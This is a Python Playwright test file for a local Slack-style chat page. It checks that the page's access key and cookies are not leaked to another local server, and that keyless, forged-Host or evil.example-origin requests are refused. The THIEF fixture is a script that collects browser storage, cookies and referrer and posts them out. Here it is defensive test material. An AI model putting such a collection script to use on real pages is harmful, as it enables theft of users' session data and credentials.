"""Only people who have its key may do anything on the chat page, and no server of the agent's gets it."""

import json
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from pathlib import Path
from urllib.parse import urlencode

import aiohttp
import pytest
import pytest_asyncio
from aiohttp import web
from browsing import chromium, stumbles, visiting
from playwright.async_api import Browser, expect

from peerbot.local.slack import LocalSlack
from peerbot.local.slack.files import FilePart
from peerbot.local.slack.shapes import GENERAL, PERSON

pytestmark = [pytest.mark.browser, pytest.mark.asyncio(loop_scope="module"), pytest.mark.timeout(120)]

THIEF = """<!doctype html><title>What I have made</title><link rel="icon" href="data:,"><script>
const seen = {kept: {...localStorage, ...sessionStorage}, cookie: document.cookie, from: document.referrer,
    name: window.name, at: location.href, opener: String(window.opener)};
fetch("/seen", {method: "POST", body: JSON.stringify(seen)}).then(() => document.title = "Done");
</script><h1>What I have made</h1>"""


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def browser() -> AsyncIterator[Browser]:
    async with chromium() as browser:
        yield browser


@pytest_asyncio.fixture(loop_scope="module")
async def slack(tmp_path: Path) -> AsyncIterator[LocalSlack]:
    async with LocalSlack(tmp_path / "slack") as slack:
        yield slack


@asynccontextmanager
async def thief() -> AsyncIterator[tuple[str, list[str]]]:
    """A server of the agent's on another port: its address, and each request that it gets, with all headers."""
    asked: list[str] = []

    async def seen(request: web.Request) -> web.Response:
        asked.append(f"{request.method} {request.path_qs} {dict(request.headers)} {await request.text()}")
        return web.Response(text=THIEF, content_type="text/html")

    other = web.Application()
    other.router.add_route("*", "/{path:.*}", seen)
    runner = web.AppRunner(other)
    await runner.setup()
    try:
        await web.TCPSite(runner, "127.0.0.1", 0).start()
        yield f"http://127.0.0.1:{runner.addresses[0][1]}/", asked
    finally:
        await runner.cleanup()


def authorize(slack: LocalSlack, back: str) -> str:
    """The address to which an app sends a browser that is to sign in."""
    asked = {"client_id": slack.page.openid.client_id, "redirect_uri": back, "state": "s", "nonce": "n"}
    return f"{slack.url}openid/connect/authorize?{urlencode(asked)}"


async def test_another_server_on_this_machine_gets_no_cookie_and_no_key(browser: Browser, slack: LocalSlack) -> None:
    async with thief() as (there, asked):
        await slack.app_says(GENERAL, f"look at <{there}>")
        async with visiting(browser, slack.page.address, expected=(there,)) as page:
            link = page.get_by_role("link", name=there)
            async with page.context.expect_page() as opened:
                await link.click()
            await expect(await opened.value).to_have_title("Done")
            await page.goto(there)
            await expect(page).to_have_title("Done")
            await page.go_back()
            await link.wait_for()
            assert page.url == slack.url
            await page.goto(authorize(slack, there))
            await page.get_by_role("button", name="Ada Lovelace").click()
            await expect(page).to_have_title("Done")
            assert await page.context.cookies() == []
    got = "\n".join(asked)
    assert got.count("POST /seen") == 3
    assert "state=s" in got, "the sign-in led there"
    assert slack.page.key not in got
    assert "Cookie" not in got
    assert "Referer" not in got.replace(f"'Referer': '{there}", ""), "of its own pages alone"


async def test_only_who_has_the_key_may_look_or_do_anything(browser: Browser, slack: LocalSlack) -> None:
    slack.share_files(PERSON, GENERAL, "", [FilePart("one.txt", b"one"), FilePart("two.txt", b"two")])
    key = {"Authorization": f"Bearer {slack.page.key}"}
    async with aiohttp.ClientSession() as browserless:

        async def ask(method: str, path: str, **headers: str) -> tuple[int, bytes]:
            address = slack.url.rstrip("/") + path
            async with browserless.request(
                method, address, headers=headers, data="{}", allow_redirects=False
            ) as answer:
                assert "Set-Cookie" not in answer.headers
                return answer.status, b"" if answer.content_type == "text/event-stream" else await answer.read()

        async def status(method: str, path: str, **headers: str) -> int:
            return (await ask(method, path, **headers))[0]

        state = json.loads((await ask("GET", "/page/state", **key))[1])
        (message,) = state["messages"][GENERAL]["messages"]
        one, two = message["files"]
        file = f"/page/files/{one['id']}"
        asked = ("/page/state", "/page/stream", file, "/page/hood?channel=C&thread_ts=1")
        for path in (*asked, f"{file}?pass={two['pass']}", f"/page/state?key={slack.page.key}"):
            assert await status("GET", path) == 401, path
            assert await status("GET", path, Authorization="Bearer wrong") == 401, path
            assert await status("GET", path, Cookie=f"key={slack.page.key}") == 401, path
        assert await ask("GET", f"{file}?pass={one['pass']}") == (200, b"one")
        assert await status("POST", "/page/act/say") == 401
        assert await status("GET", "/", Host="rebound.example") == 421
        assert await status("GET", "/page/stream", **key) == 200
        assert await status("GET", "/page/state?as=nobody", **key) == 400
        assert await status("GET", "/page/state", Host="rebound.example", **key) == 421
        assert await status("POST", "/page/act/say", Origin="http://evil.example", **key) == 403
        assert await status("POST", "/page/act/nothing", **key) == 400
        for back, found in (("http://127.0.0.1:1/", 200), ("http://evil.example/", 400), ("http://[", 400)):
            path = authorize(slack, back).replace(slack.url, "/")
            assert await status("POST", path) == 401
            assert await status("POST", path, **key) == found, back
    async with visiting(browser, slack.url, expected=("401",)) as page:
        await expect(page.get_by_role("heading", name="This page needs its key")).to_be_visible()
        assert await stumbles(page) == []
        await page.get_by_label("Key, or that address").fill(slack.page.address)
        await page.keyboard.press("Enter")
        await expect(page.get_by_role("link", name="one.txt")).to_be_visible()


async def test_an_address_with_the_key_lets_an_open_page_in(browser: Browser, slack: LocalSlack) -> None:
    ts = await slack.say(PERSON, GENERAL, "a question")
    reply = await slack.say(PERSON, GENERAL, "an answer", thread_ts=ts)
    async with visiting(browser, slack.url, expected=("401",)) as page:
        await expect(page.get_by_role("heading", name="This page needs its key")).to_be_visible()
        await page.goto(slack.page.address)
        await expect(page.get_by_text("a question")).to_be_visible()
        assert "key=" not in page.url
        await page.goto(f"{slack.url}archives/{GENERAL}/p{reply.replace('.', '')}")
        await expect(page.get_by_role("region", name="Thread").get_by_text("an answer")).to_be_visible()
        await expect(page.get_by_role("region", name="Thread").get_by_text("a question")).to_be_visible()
        assert page.url == f"{slack.url}#{GENERAL}/{ts}"
